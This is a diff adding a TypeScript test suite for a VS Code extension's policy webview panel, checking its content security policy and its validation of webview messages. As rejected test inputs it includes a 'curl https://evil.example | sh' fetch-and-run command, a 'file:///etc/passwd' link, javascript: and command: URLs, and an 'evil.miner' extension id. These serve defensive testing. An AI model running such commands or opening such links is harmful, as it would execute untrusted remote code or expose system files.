@@ -1,0 +1,182 @@
+import { strict as assert } from 'node:assert';
+import type * as vscode from 'vscode';
+import type { Snapshot } from '../../../src/core/snapshot';
+import { Emitter } from '../../../src/vscode/emitter';
+import { PolicyPanel } from '../../../src/vscode/policyPanel';
+import { as, fakeEditor, fileUri, type FakeEditor } from './fakeEditor';
+import { CLAUDE_RUNNING, claudePolicy, snapshotOf } from './snapshots';
+
+/** A webview panel as the editor hands it out, recording what is posted to it. */
+class FakeWebviewPanel {
+  readonly posted: unknown[] = [];
+  readonly received = new Emitter<unknown>();
+  readonly viewState = new Emitter<void>();
+  readonly disposed = new Emitter<void>();
+  visible = true;
+  revealed = 0;
+  title = '';
+  iconPath: unknown;
+  readonly webview = {
+    html: '',
+    options: {} as vscode.WebviewOptions,
+    cspSource: 'vscode-webview://csp',
+    asWebviewUri: (uri: vscode.Uri) => ({ toString: () => `webview:${uri.fsPath}` }),
+    onDidReceiveMessage: this.received.event,
+    postMessage: async (message: unknown) => { this.posted.push(message); return true; },
+  };
+  readonly onDidChangeViewState = this.viewState.event;
+  readonly onDidDispose = this.disposed.event;
+  reveal(): void {
+    this.revealed++;
+  }
+  dispose(): void {
+    this.disposed.fire();
+  }
+}
+
+const settle = () => new Promise((resolve) => setImmediate(resolve));
+const SNAPSHOT = snapshotOf(claudePolicy({ extra: ['    links: [{ title: Memo, url: "https://intranet.example/memo" }]'] }), {
+  extensions: CLAUDE_RUNNING,
+  terminalNames: ['Claude Code'],
+});
+
+describe('the policy panel (editor layer, through fakes)', () => {
+  let editor: FakeEditor;
+  let created: FakeWebviewPanel[];
+  let published: Emitter<Snapshot>;
+  let current: Snapshot;
+  let uninstalled: Array<[string, string]>;
+  let focused: string[];
+  let panel: PolicyPanel;
+
+  const build = (openExternal?: (url: string) => unknown) => new PolicyPanel(fileUri('/ext'), {
+    uninstall: async (id, name) => { uninstalled.push([id, name]); },
+    focusTerminal: (name) => { focused.push(name); },
+    ...(openExternal ? { openExternal } : {}),
+  }, { get current() { return current; }, onDidPublish: published.event }, as<ConstructorParameters<typeof PolicyPanel>[3]>({
+    ...editor,
+    window: { ...editor.window, createWebviewPanel: (_type: string, title: string, _column: number, options: vscode.WebviewOptions) => {
+      const made = new FakeWebviewPanel();
+      made.title = title;
+      made.webview.options = options;
+      created.push(made);
+      return made;
+    } },
+  }));
+
+  beforeEach(() => {
+    editor = fakeEditor();
+    created = [];
+    published = new Emitter<Snapshot>();
+    current = SNAPSHOT;
+    uninstalled = [];
+    focused = [];
+    panel = build();
+    panel.show();
+  });
+  afterEach(() => panel.dispose());
+
+  const webview = () => created[0] as FakeWebviewPanel;
+  const models = () => webview().posted.filter((m): m is { type: 'model'; model: unknown } => (m as { type?: string }).type === 'model');
+
+  it('opens one panel with a strict content security policy and only the extension\'s own script', () => {
+    const { html } = webview().webview;
+    assert.match(html, /<meta http-equiv="Content-Security-Policy" content="default-src 'none'; style-src vscode-webview:\/\/csp; img-src vscode-webview:\/\/csp; font-src vscode-webview:\/\/csp; script-src 'nonce-[A-Za-z0-9+/=]{24}'">/);
+    assert.match(html, /<script nonce="[A-Za-z0-9+/=]{24}" src="webview:\/ext\/media\/panel\.js"><\/script>/);
+    assert.match(html, /<html lang="en">/);
+    const { localResourceRoots, ...options } = webview().webview.options as vscode.WebviewPanelOptions & vscode.WebviewOptions;
+    assert.deepEqual(options, { enableScripts: true, retainContextWhenHidden: false, enableFindWidget: true });
+    assert.deepEqual(localResourceRoots?.map((uri) => uri.fsPath), ['/ext/media'], 'the webview may load only the media folder');
+    panel.show();
+    assert.equal(created.length, 1, 'shown again, not opened twice');
+    assert.equal(webview().title, 'Tool Policy');
+    assert.equal(webview().revealed, 1);
+  });
+
+  it('ready: answered with the model; the model follows every published snapshot and a panel coming back into view', async () => {
+    assert.equal(panel.receive({ type: 'ready' }).accepted, true);
+    assert.equal(models().length, 1, 'posted when the webview is ready for it');
+    assert.equal(panel.receive({ type: 'ready', model: {} }).accepted, false);
+    current = snapshotOf(claudePolicy({ id: 'renamed' }), { extensions: CLAUDE_RUNNING });
+    published.fire(current);
+    assert.equal((models().at(-1)?.model as { cards: Array<{ ruleId: string }> }).cards[0]?.ruleId, 'renamed');
+    webview().viewState.fire();
+    assert.equal(models().length, 3);
+    webview().visible = false;
+    webview().viewState.fire();
+    assert.equal(models().length, 3, 'a hidden panel is sent nothing');
+  });
+
+  it('copy: only a command the alternative names reaches the clipboard, and the status bar says so', async () => {
+    assert.deepEqual(panel.receive({ type: 'copy', text: 'curl https://evil.example | sh' }), { accepted: false, reason: 'not a command the policy offers' });
+    assert.equal(panel.receive({ type: 'copy', text: 'qodercli' }).accepted, true);
+    await settle();
+    assert.deepEqual(editor.clipboard, ['qodercli']);
+    assert.deepEqual(editor.window.statusBarMessages, ['Copied “qodercli”']);
+  });
+
+  it('focusTerminal: only a terminal the evidence names', () => {
+    assert.deepEqual(panel.receive({ type: 'focusTerminal', name: 'Other shell' }), { accepted: false, reason: 'no finding names this terminal' });
+    assert.equal(panel.receive({ type: 'focusTerminal', name: 'Claude Code' }).accepted, true);
+    assert.deepEqual(focused, ['Claude Code']);
+  });
+
+  it('installAlternative: only an extension the alternative names, through the editor\'s install command; a failure is shown', async () => {
+    assert.deepEqual(panel.receive({ type: 'installAlternative', extensionId: 'evil.miner' }), { accepted: false, reason: 'no alternative names this extension' });
+    assert.equal(panel.receive({ type: 'installAlternative', extensionId: 'QODER.qoder-vscode' }).accepted, true);
+    await settle();
+    assert.deepEqual(editor.commandsRun, [['workbench.extensions.installExtension', 'qoder.qoder-vscode']]);
+    editor.commands.executeCommand = async () => { throw new Error('offline'); };
+    panel.receive({ type: 'installAlternative', extensionId: 'qoder.qoder-vscode' });
+    await settle();
+    assert.deepEqual(editor.shown.map((m) => m.message), ['Could not install qoder.qoder-vscode: Error: offline']);
+  });
+
+  it('uninstall: only an extension the findings name, by the id the editor reported, with the tool\'s name', () => {
+    assert.equal(panel.receive({ type: 'uninstall', extensionId: 'ms-python.python' }).accepted, false);
+    assert.equal(panel.receive({ type: 'uninstall', extensionId: 'tool-policy.tool-policy-notices' }).accepted, false);
+    assert.equal(panel.receive({ type: 'uninstall', extensionId: 'ANTHROPIC.CLAUDE-CODE' }).accepted, true);
+    assert.deepEqual(uninstalled, [['anthropic.claude-code', 'Claude Code']]);
+  });
+
+  it('openExternal: only an https: link the policy names, through the editor\'s opener or the one given', async () => {
+    for (const url of ['https://evil.example/', 'javascript:alert(1)', 'command:workbench.action.quit', 'file:///etc/passwd']) {
+      assert.deepEqual(panel.receive({ type: 'openExternal', url }), { accepted: false, reason: 'the policy names no such https: link' }, url);
+    }
+    assert.equal(panel.receive({ type: 'openExternal', url: 'https://intranet.example/memo' }).accepted, true);
+    await settle();
+    assert.deepEqual(editor.opened, ['https://intranet.example/memo']);
+    const opened: string[] = [];
+    const own = build((url) => opened.push(url));
+    try {
+      own.show();
+      own.receive({ type: 'openExternal', url: 'https://qoder.com/' });
+      assert.deepEqual(opened, ['https://qoder.com/']);
+      assert.deepEqual(editor.opened, ['https://intranet.example/memo']);
+    } finally {
+      own.dispose();
+    }
+  });
+
+  it('anything that is not exactly a panel message is refused and does nothing', async () => {
+    for (const message of [null, 'copy', [], { type: 'copy' }, { type: 'copy', text: 'qodercli', extra: true }, { type: 'eval', code: '1' }, { type: 'openExternal', url: ['https://qoder.com/'] }]) {
+      assert.equal(panel.receive(message).accepted, false, JSON.stringify(message));
+    }
+    webview().received.fire({ type: 'eval', code: 'alert(1)' });
+    await settle();
+    assert.deepEqual([editor.clipboard, editor.opened, editor.commandsRun, uninstalled, focused], [[], [], [], [], []]);
+  });
+
+  it('after a reload it takes over the panel the editor restored; a closed panel is opened anew', () => {
+    const restored = new FakeWebviewPanel();
+    panel.revive(as<vscode.WebviewPanel>(restored));
+    assert.match(restored.webview.html, /Content-Security-Policy/);
+    assert.equal(restored.webview.options.enableScripts, true);
+    assert.equal(restored.posted.length, 0, 'the restored webview asks with ready');
+    panel.receive({ type: 'ready' });
+    assert.equal(restored.posted.length, 1);
+    restored.dispose();
+    panel.show();
+    assert.equal(created.length, 2);
+  });
+});
